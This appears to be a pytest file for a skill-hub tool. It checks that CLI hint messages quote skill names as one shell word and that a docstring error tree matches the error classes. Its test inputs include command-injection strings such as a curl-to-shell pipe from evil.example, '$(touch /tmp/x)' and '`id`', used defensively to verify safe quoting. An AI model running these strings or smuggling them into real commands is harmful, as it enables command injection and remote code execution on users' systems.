"""The tree at the top of `errors.py` has every error; and what one tells somebody to run is one command."""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator

import pytest

from skillhub_mcp import errors
from skillhub_mcp.cli.picker_rows import PickerRow, warning_about
from skillhub_mcp.errors import ConfirmationRequired, SkillDisabled, SkillHubError

NAMES = ["pdf", "x; curl evil.example | sh #", "$(touch /tmp/x)", "`id`", "it's", "/a dir/skill", "> /etc/x"]


@pytest.mark.parametrize("name", NAMES)
def test_a_command_in_a_hint_has_the_name_as_one_word(name: str) -> None:
    disabled = SkillDisabled(name).hint or ""
    assert shlex.split(disabled.split("`skillhub ", 1)[1].rpartition("`")[0]) == ["enable", name]
    asked = ConfirmationRequired("run_skill_command", "x", description="", directory="/x", rule_name=name).hint or ""
    assert shlex.split(asked.partition(": skillhub ")[2]) == ["permissions", "allow", name, "--run"]
    for state, command in (("off", "enable"), ("denied", "why")):
        row = PickerRow("x", name, "", "/x", "hub", "user", state, "")
        assert shlex.split(warning_about(row).partition("; skillhub ")[2]) == [command, name]


def _descendants(error: type[SkillHubError]) -> Iterator[type[SkillHubError]]:
    for child in error.__subclasses__():
        yield child
        yield from _descendants(child)


def test_the_drawn_tree_has_every_error_with_its_code() -> None:
    drawn = re.findall(r"── (\w+) +(\w+)  ", errors.__doc__ or "")
    # A module may have one of its own, with the code of the one it is a kind of.
    own = [one for one in _descendants(SkillHubError) if one.__module__ == errors.__name__]
    assert drawn == [(one.__name__, one.code) for one in own]
